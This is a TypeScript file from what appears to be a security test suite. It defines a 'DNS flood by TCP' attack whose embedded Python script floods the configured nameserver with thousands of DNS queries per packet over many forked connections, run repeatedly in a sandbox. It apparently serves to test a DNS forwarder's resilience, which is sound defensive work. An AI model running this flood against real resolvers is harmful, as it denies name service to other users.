/** Queries to the forwarder by TCP that are refused at once, thousands in one packet, and connections without end. */
import { call } from '../../support/service.ts';
import type { Attack } from '../attack.ts';

const SECONDS = 5;
const code = `
import os, select, socket, time
server = next(line.split()[1] for line in open('/etc/resolv.conf') if line.startswith('nameserver'))
queries = bytes.fromhex('000c000108000000000000000000') * 4000
end = time.time() + ${SECONDS}
reading = os.fork()
sockets = []
while time.time() < end:
    if reading == 0 or len(sockets) < 8:
        try:
            made = socket.create_connection((server, 53), 0.2)
            made.setblocking(False)
            sockets.append(made)
        except OSError: pass
        if reading == 0:
            for old in sockets[:-4]: old.close()
            sockets = sockets[-4:]
            continue
    for one in list(sockets):
        try:
            one.send(queries)
            while one.recv(1 << 20): pass
        except BlockingIOError: pass
        except OSError: sockets.remove(one)
    time.sleep(0)
`;

export const attack: Attack = {
  name: 'DNS flood by TCP',
  async run({ mallory, sandbox }, signal) {
    while (!signal.aborted) await call(mallory, 'RunCode', { sandbox, code, timeout_seconds: SECONDS + 2 });
  },
};
